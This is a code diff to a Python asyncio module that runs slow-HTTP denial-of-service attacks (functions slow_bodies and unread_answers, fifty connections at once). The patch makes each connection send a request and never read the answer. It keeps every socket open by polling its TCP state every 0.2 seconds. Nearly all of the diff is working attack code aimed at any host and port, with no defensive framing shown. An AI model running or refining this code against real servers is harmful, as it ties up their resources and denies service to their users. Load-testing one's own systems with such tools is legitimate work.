@@ -13,6 +13,9 @@ from typing import Final
 DRIP_SECONDS: Final = 1.0
 #: How much the system takes for who never reads.
 RECEIVE_BYTES: Final = 4096
+#: Whoever never reads has to ask the system whether it is still connected.
+LOOK_SECONDS: Final = 0.2
+ESTABLISHED: Final = 1
 #: Connections that are opened at once.
 AT_ONCE: Final = 50
 
@@ -49,7 +52,7 @@ async def slow_bodies(host: str, port: int, count: int, seconds: float, begun: i
     return await _attack(host, port, count, seconds, drip)
 
 
-async def unread_answers(  # noqa: PLR0913  # what is asked for is the attack's
+async def unread_answers(
     host: str, port: int, count: int, seconds: float, path: str, user: str
 ) -> int:
     """Ask for `path` as a user, and never read the answer."""
@@ -57,8 +60,9 @@ async def unread_answers(  # noqa: PLR0913  # what is asked for is the attack's
 
     async def ask(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         writer.write(head)
-        await writer.drain()
-        await writer.wait_closed()
+        connection = writer.get_extra_info("socket")
+        while _state(connection) == ESTABLISHED:  # noqa: ASYNC110  # the system does not tell
+            await asyncio.sleep(LOOK_SECONDS)
 
     return await _attack(host, port, count, seconds, ask)
 
@@ -113,6 +117,10 @@ async def _opened(host: str, port: int) -> tuple[asyncio.StreamReader, asyncio.S
     except BaseException:
         connection.close()
         raise
+
+
+def _state(connection: socket.socket) -> int:
+    return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
 
 
 async def _listen(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
